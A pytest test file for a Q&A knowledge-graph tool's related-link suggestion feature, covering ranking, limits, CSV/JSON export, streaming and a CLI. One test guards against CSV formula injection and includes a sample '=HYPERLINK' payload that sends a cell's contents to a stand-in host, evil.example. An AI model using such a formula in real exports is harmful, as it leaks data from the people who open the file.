"""qagraph.suggest: candidate related links, their order and limits, CSV and JSON."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
from pathlib import Path

import pytest

import qagraph
from conftest import CONTENT, article_text, url_of, write_article
from qagraph.errors import UsageError
from qagraph.ids import article_node
from qagraph.suggest import FIELDS, suggest, suggestions_csv, suggestions_json

A, B, C, D, E = (article_node(url_of("physics", s)) for s in "abcde")


@pytest.fixture
def G(tmp_path: Path):
    """a links to nothing; b links to a; c and d are similar to a; e links to five articles."""
    root = tmp_path / "content"

    def link(s):
        return {"id": 1, "title": s, "subject": "Physics", "url": url_of("physics", s)}

    write_article(root, "physics/a.md", article_text("A?", url_of("physics", "a"), subject="Physics",
                                                     keywords="Okazaki, Helicase, primase, lagging strand, x1"))
    write_article(root, "physics/b.md", article_text("B?", url_of("physics", "b"), subject="Physics",
                                                     keywords="okazaki, helicase, primase, lagging strand, y1",
                                                     related=[link("a")]))
    write_article(root, "physics/c.md", article_text("C?", url_of("physics", "c"), subject="Physics",
                                                     keywords="okazaki, helicase, z1, z2, z3"))
    write_article(root, "physics/d.md", article_text("D?", url_of("physics", "d"), subject="Physics",
                                                     keywords="okazaki, w1, w2, w3, w4"))
    write_article(root, "physics/e.md", article_text("E?", url_of("physics", "e"), subject="Physics",
                                                     keywords="primase, okazaki, v1",
                                                     related=[link(s) for s in ("a", "b", "c", "d", "nowhere")]))
    return qagraph.build(root).graph


def picks(rows, article):
    return [(r.candidate, r.rank) for r in rows if r.article == article]


def test_best_candidates_first_never_one_already_linked(G):
    rows = suggest(G)
    weights = {frozenset((u, v)): d["weight"] for u, v, k, d in G.edges(keys=True, data=True) if k == "similar"}
    mine = [r for r in rows if r.article == A]
    assert [r.candidate for r in mine] == sorted((n for n in (B, C, D, E) if frozenset((A, n)) in weights),
                                                  key=lambda n: (-weights[frozenset((A, n))], n))
    assert [r.rank for r in mine] == list(range(1, len(mine) + 1)) and mine[0].candidate == B
    assert mine[0].links_back is True and all(not r.links_back for r in mine[1:] if r.candidate != E)
    assert mine[0].related == 0 and mine[0].path == "physics/a.md" and mine[0].title == "A?"
    # b links to a already: a is never suggested to b
    assert A not in [c for c, _ in picks(rows, B)]
    # e has five links (one outside the corpus): nothing to suggest
    assert picks(rows, E) == []


def test_shared_keywords_as_written(G):
    [first] = [r for r in suggest(G) if r.article == A and r.rank == 1]
    # the most common spelling of each keyword: "Okazaki" once, "okazaki" four times
    assert first.shared == ("helicase", "lagging strand", "okazaki", "primase")
    assert first.weight == G.edges[A, B, "similar"]["weight"]


def test_limits(G):
    assert picks(suggest(G, k=1), A) == [(B, 1)]
    assert suggest(G, max_related=0) == []
    assert picks(suggest(G, max_related=1), B) == []  # b has its one link
    assert len(picks(suggest(G, max_related=2), B)) <= 1  # one free slot
    with pytest.raises(UsageError):
        suggest(G, k=-1)


def test_csv_and_json_round_trip(G):
    rows = suggest(G)
    parsed = list(csv.DictReader(io.StringIO(suggestions_csv(rows))))
    assert [tuple(p) for p in parsed][:1] == [FIELDS] and len(parsed) == len(rows) > 0
    assert parsed[0]["shared"] == "; ".join(rows[0].shared) and parsed[0]["links_back"] in ("yes", "no")
    assert float(parsed[0]["weight"]) == rows[0].weight
    data = json.loads(suggestions_json(rows))
    assert data[0] == {**rows[0].as_dict(), "shared": list(rows[0].shared)} and len(data) == len(rows)


def test_csv_cells_never_run_as_spreadsheet_formulas(G):
    """Titles and keywords come from the corpus: in the CSV an editor opens in a spreadsheet, one
    that begins as a formula does (=, +, -, @, a tab, a carriage return) gets an apostrophe first;
    the JSON keeps every text as it is."""
    row = dataclasses.replace(suggest(G)[0], title='=HYPERLINK("http://evil.example/?"&A1, "click")',
                              candidate_title="-5 °C: why does salt melt ice?", shared=("@risk", "+1 rule"))
    parsed = next(csv.DictReader(io.StringIO(suggestions_csv([row]))))
    assert parsed["title"] == "'" + row.title and parsed["candidate_title"] == "'" + row.candidate_title
    assert parsed["shared"] == "'@risk; +1 rule" and parsed["article"] == row.article
    assert json.loads(suggestions_json([row]))[0]["title"] == row.title
    plain = dataclasses.replace(row, title="Why is -5 °C cold?", candidate_title="\tTabbed", shared=())
    parsed = next(csv.DictReader(io.StringIO(suggestions_csv([plain]))))
    assert parsed["title"] == "Why is -5 °C cold?" and parsed["candidate_title"] == "'\tTabbed"


def test_on_the_bundled_content():
    G = qagraph.build(CONTENT).graph
    rows = suggest(G)
    assert rows
    for r in rows:
        linked = {v for _, v, k in G.out_edges(r.article, keys=True) if k == "related"}
        assert r.candidate not in linked and r.candidate != r.article
        assert r.rank <= 5 - len(linked) and r.related == len(linked)
        assert G.has_edge(r.article, r.candidate, "similar") or G.has_edge(r.candidate, r.article, "similar")
    by_article = {}
    for r in rows:
        by_article.setdefault(r.article, []).append(r.weight)
    assert all(w == sorted(w, reverse=True) for w in by_article.values())


@pytest.mark.parametrize("options", [{}, {"k": 1}, {"max_related": 2}, {"max_related": 0}, {"k": 10}])
def test_a_stored_build_suggests_from_its_database_what_its_graph_gives(tmp_path, options):
    """`qagraph suggest -b BUILD` loaded the whole graph of the build to answer: on the 36,000-article
    build, 1.2 GB and 98 s where the other query commands take a second. A stored build now answers
    from its tables (the graph is never loaded), with the very rows the graph gives, in the same order,
    for the bundled content and for a build with links back, self-links and links out of the corpus."""
    for content in (CONTENT, _linked(tmp_path / "linked")):
        out = tmp_path / f"build-{content.name}"
        built = qagraph.build(content, out=out)
        opened = qagraph.open(out)
        rows = opened.suggest(**options)
        assert opened._source._graph is None, "the graph was loaded"
        assert rows == suggest(built.graph, **options) == built.suggest(**options)
        if not options:
            assert rows and (content == CONTENT or any(r.links_back for r in rows))
    with pytest.raises(UsageError):
        qagraph.open(out).suggest(k=-1)


def _linked(root: Path) -> Path:
    """Articles that share keywords, link back, link to themselves and out of the corpus."""
    def link(s):
        return {"id": 1, "title": s, "subject": "Physics", "url": url_of("physics", s)}

    for s, related in (("a", ["b", "a"]), ("b", ["a"]), ("c", ["nowhere"]), ("d", []), ("e", ["a", "b", "c", "d"])):
        write_article(root, f"physics/{s}.md", article_text(
            f"{s.upper()}?", url_of("physics", s), subject="Physics", related=[link(r) for r in related],
            keywords=f"Okazaki, helicase, primase, lagging strand, only-{s}"))
    return root


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_suggestions_are_written_a_few_hundred_rows_at_a_time(fmt: str):
    """A build's suggestions (29,606 rows, 53 MB of CSV, at 36,000 articles) go out in pieces as they
    are made, and the pieces are the text suggestions_csv / suggestions_json give whole."""
    from qagraph import suggest as suggest_module

    rows = [suggest_module.Suggestion(
        article=f"article:/a/{i // 3}", path=f"a/{i // 3}.md", title=f"=Why {i}?\n", related=1, rank=i % 3 + 1,
        candidate=f"article:/b/{i}", candidate_path=None, candidate_title="é", weight=0.5, shared=("x", "y"),
        links_back=bool(i % 2)) for i in range(2000)]
    pieces: list[str] = []
    suggest_module.write_suggestions(iter(rows), pieces.append, fmt)
    if fmt == "json":  # the bytes json.dumps gives the whole list
        whole = json.dumps([r.as_dict() for r in rows], ensure_ascii=False, indent=1)
    else:
        out = io.StringIO()
        writer = csv.DictWriter(out, fieldnames=FIELDS, lineterminator="\n")
        writer.writeheader()
        writer.writerows(r.as_row() for r in rows)
        whole = out.getvalue()
    assert "".join(pieces) == whole == (suggestions_csv(rows) if fmt == "csv" else suggestions_json(rows))
    assert len(pieces) >= 4 and max(map(len, pieces)) < len(whole) / 3
    assert "".join(_pieces_of([], fmt)) == ("[]" if fmt == "json" else ",".join(FIELDS) + "\n")


def _pieces_of(rows, fmt):
    from qagraph.suggest import write_suggestions

    pieces: list[str] = []
    write_suggestions(rows, pieces.append, fmt)
    return pieces


def test_a_question_linked_or_suggested_already_is_not_suggested_again(tmp_path: Path):
    """The same question filed under two subjects (a same-question pair) are one answer: the
    suggestions gave an article the second copy of a question it links to already, and an
    article with free slots both copies, two of its five slots for one answer."""
    root = _same_question(tmp_path / "content")
    kg = qagraph.build(root, out=tmp_path / "out")
    bio_b, phy_b, bio_c = (article_node(url_of(s, n)) for s, n in (("biology", "b"), ("physics", "b"), ("biology", "c")))
    a = article_node(url_of("biology", "a"))
    assert {(u, v) for u, v, k in kg.graph.edges(keys=True) if k == "same-question"} in ({(bio_b, phy_b)}, {(phy_b, bio_b)})
    for rows in (suggest(kg.graph), qagraph.open(tmp_path / "out").suggest()):
        assert picks(rows, a) == [(bio_c, 1)]  # not physics/b: a links to biology/b, the same question
        [(first, _), (second, _)] = [p for p in picks(rows, article_node(url_of("biology", "c")))]
        assert {first, second} in ({a, bio_b}, {a, phy_b})  # one copy of B, not both


@pytest.mark.parametrize("options", [{}, {"k": 1}, {"max_related": 2}, {"max_related": 0}])
def test_the_suggestions_of_some_articles_are_their_rows_of_the_whole_list(tmp_path, options):
    """An editor at work on one article asks for its candidates (`qagraph suggest ID`): the rows the
    whole list has for it, read from a stored build around that article alone, with its links, its
    candidates' links back and the twins of both (a question asked already is passed over)."""
    for content in (CONTENT, _linked(tmp_path / "linked"), _twins(tmp_path / "twins")):
        out = tmp_path / f"build-{content.name}"
        built = qagraph.build(content, out=out)
        opened = qagraph.open(out)
        whole = built.suggest(**options)
        articles = sorted(n for n, d in built.graph.nodes(data=True) if d.get("kind") == "article")
        for kg in (built, opened):
            for i, node in enumerate(articles):
                pair = [node, articles[(i * 7 + 3) % len(articles)]]
                assert kg.suggest(articles=pair, **options) == [r for r in whole if r.article in pair]
        assert opened._source._graph is None, "the graph was loaded"
        if not options:
            assert any(r.article in articles for r in whole)
    with pytest.raises(UsageError, match="no article"):
        opened.suggest(articles=["/learn/nowhere/questions/x"])


def _link(subject: str, slug: str) -> dict:
    return {"id": 1, "title": slug, "subject": subject.title(), "url": url_of(subject, slug)}


def _same_question(root: Path) -> Path:
    """b, the same question under biology and physics; a links to biology's; c and d link nowhere."""
    kw = "okazaki, helicase, primase, lagging strand"
    write_article(root, "biology/a.md", article_text("A?", url_of("biology", "a"), id=1, keywords=f"{kw}, a1",
                                                     related=[_link("biology", "b")]))
    write_article(root, "biology/b.md", article_text("B?", url_of("biology", "b"), id=2, keywords=f"{kw}, b1"))
    write_article(root, "physics/b.md", article_text("B?", url_of("physics", "b"), id=2, subject="Physics",
                                                     keywords=f"{kw}, b1, b2"))
    write_article(root, "biology/c.md", article_text("C?", url_of("biology", "c"), id=3, keywords=f"{kw}, c1"))
    write_article(root, "biology/d.md", article_text("D?", url_of("biology", "d"), id=4, keywords="x1, x2"))
    return root


def _twins(root: Path) -> Path:
    """:func:`_same_question`, and two articles linking to a copy of b: e is similar to both, f to the
    other copy alone (b2), the twin of a link that is no candidate."""
    _same_question(root)
    write_article(root, "biology/e.md", article_text("E?", url_of("biology", "e"), id=5, related=[_link("physics", "b")],
                                                     keywords="okazaki, helicase, primase, lagging strand, e1"))
    write_article(root, "biology/f.md", article_text("F?", url_of("biology", "f"), id=6, keywords="b2, f1, f2",
                                                     related=[_link("biology", "b")]))
    return root


def test_suggest_names_articles_on_the_command_line_and_says_why_one_has_no_row(tmp_path: Path):
    from click.testing import CliRunner

    from qagraph.cli import cli

    root = _linked(tmp_path / "linked")
    out = tmp_path / "build"
    qagraph.build(root, out=out)
    a, e = url_of("physics", "a"), url_of("physics", "e")
    result = CliRunner().invoke(cli, ["suggest", a, e, "-b", str(out), "--max-related", "4", "-f", "json"])
    assert result.exit_code == 0
    rows = json.loads(result.stdout)
    assert rows and {r["article"] for r in rows} == {article_node(a)}
    assert rows == [r.as_dict() for r in qagraph.open(out).suggest(max_related=4) if r.article == article_node(a)]
    assert f"no suggestions for {e}: it has 4 related links (--max-related 4): no free slot" in result.stderr
    unknown = CliRunner().invoke(cli, ["suggest", "/learn/physics/questions/zzz", "-b", str(out)])
    assert unknown.exit_code == 2 and "no article" in unknown.stderr
